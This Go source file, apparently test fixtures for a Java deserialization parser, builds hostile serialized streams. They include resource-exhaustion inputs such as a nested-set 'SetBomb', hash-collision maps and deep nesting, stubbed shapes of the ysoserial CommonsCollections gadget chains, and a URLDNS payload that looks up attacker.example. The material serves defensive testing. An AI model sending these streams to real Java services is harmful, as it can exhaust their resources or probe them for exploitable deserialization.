// SPDX-License-Identifier: Apache-2.0

package hostile

import "fmt"

// Nested is an array of one array of one array …, n times.
func Nested(n int) *Stream {
	s := New().Array("[Ljava.lang.Object;", 1)
	for range n {
		s.B(tcArray).Ref(0).I32(1)
	}
	return s.B(tcNull)
}

// Tower is a class with n superclasses, and so many objects of it.
func Tower(n, objects int) *Stream {
	s := New().Array("[Ljava.lang.Object;", uint32(objects)).B(tcObject)
	for i := range n {
		s.Class(fmt.Sprint("C", i), plain)
	}
	s.B(tcNull)
	for range objects - 1 {
		s.B(tcObject).Ref(2)
	}
	return s
}

// Handles is an array of n empty strings: three bytes each, and a handle.
func Handles(n int) *Stream {
	s := New().Array("[Ljava.lang.Object;", uint32(n))
	for range n {
		s.Text("")
	}
	return s
}

// Shared is a list of n references to one text of so many bytes.
func Shared(n, size int) *Stream {
	s := New().Object("java.util.ArrayList", writes, "Isize").I32(uint32(n)).B(tcBlockData, 4).I32(uint32(n))
	s.B(tcLongString).I64(uint64(size)).B(make([]byte, size)...)
	at := s.Len() - size
	for i := range s.Bytes()[at:] {
		s.Bytes()[at+i] = 'x'
	}
	for range n - 1 {
		s.Ref(2)
	}
	return s.B(tcEndBlockData)
}

// SetBomb is a set of a set twice, n times: 2^n hashCodes when Java reads it
// (Bloch, Effective Java, item 85).
func SetBomb(n int) *Stream {
	s := New()
	s.setOf(n, new(uint32))
	return s
}

// setOf appends a set of two: the next level, and that again with a string so
// that they differ. next is the number of the next handle.
func (s *Stream) setOf(n int, next *uint32) (handle uint32) {
	if *next == 0 {
		s.Object("java.util.HashSet", writes)
		*next++
	} else {
		s.B(tcObject).Ref(0).B()
	}
	handle = *next
	*next++
	if n == 0 {
		s.B(tcBlockData, 12).I32(16).I32(0x3f400000).I32(0).B(tcEndBlockData)
		return handle
	}
	s.B(tcBlockData, 12).I32(16).I32(0x3f400000).I32(2)
	inner := s.setOf(n-1, next)
	s.pair(inner, next)
	s.B(tcEndBlockData)
	return handle
}

// pair appends a list of the set with that handle, which has a hash of its own.
func (s *Stream) pair(inner uint32, next *uint32) {
	s.Object("java.util.Collections$SingletonList", plain, "Lelement")
	*next += 3 // class, type of its field, object
	s.Ref(inner)
}

// Collisions is a HashMap of n keys that all have the hash 0 (String.hashCode of
// "\0", "\0\0" …), in a table of two.
func Collisions(n int) *Stream {
	s := New().Object("java.util.HashMap", writes, "FloadFactor", "Ithreshold").I32(0x3f400000).I32(12).B(tcBlockData, 8).I32(2).I32(uint32(n))
	zero := ""
	for range n {
		zero += "\xc0\x80"
		s.Text(zero).Text("")
	}
	return s.B(tcEndBlockData)
}

const functors = "org.apache.commons.collections.functors."

// TransformerChain is the shape of CommonsCollections6 in ysoserial: a set, whose element's
// hashCode asks a lazy map, which calls a chain that ends at Runtime.exec.
func TransformerChain() *Stream {
	s := New().Object("java.util.HashSet", writes).B(tcBlockData, 12).I32(1).I32(0x3f400000).I32(1)
	s.Object("org.apache.commons.collections.keyvalue.TiedMapEntry", plain, "Lkey", "Lmap").Text("foo")
	s.Object("org.apache.commons.collections.map.LazyMap", writes, "Lfactory")
	s.Object(functors+"ChainedTransformer", plain, "[iTransformers").Array("[Lorg.apache.commons.collections.Transformer;", 2)
	s.Object(functors+"ConstantTransformer", plain, "LiConstant").B(tcNull)
	s.Object(functors+"InvokerTransformer", plain, "[iArgs", "LiMethodName").B(tcNull).Text("exec")
	return s.Object("java.util.HashMap", writes, "FloadFactor", "Ithreshold").I32(0x3f400000).I32(0).B(tcBlockData, 8).I32(1).I32(0).B(tcEndBlockData, tcEndBlockData, tcEndBlockData)
}

// Handler is the shape of CommonsCollections1: an annotation's handler behind a
// proxy, over the same map.
func Handler() *Stream {
	s := New().Object("sun.reflect.annotation.AnnotationInvocationHandler", plain, "LmemberValues", "Ltype")
	s.B(tcObject, tcProxyClassDesc).I32(1).UTF("java.util.Map").B(tcEndBlockData, tcNull) // no superclass, so no field of it
	s.Object("org.apache.commons.collections.map.LazyMap", writes, "Lfactory")
	s.Object(functors+"ChainedTransformer", plain, "[iTransformers").B(tcNull)
	return s.B(tcEndBlockData)
}

// Address is the shape of URLDNS: a map whose key, a URL, asks a name server for
// its hashCode.
func Address() *Stream {
	s := New().Object("java.util.HashMap", writes, "FloadFactor", "Ithreshold").I32(0x3f400000).I32(12).B(tcBlockData, 8).I32(16).I32(1)
	s.Object("java.net.URL", writes, "IhashCode", "Iport", "Lauthority", "Lfile", "Lhost", "Lprotocol", "Lref")
	s.I32(0xffffffff).I32(0xffffffff).Text("attacker.example").Text("/").Text("attacker.example").Text("http").B(tcNull, tcEndBlockData)
	return s.Text("x").B(tcEndBlockData)
}
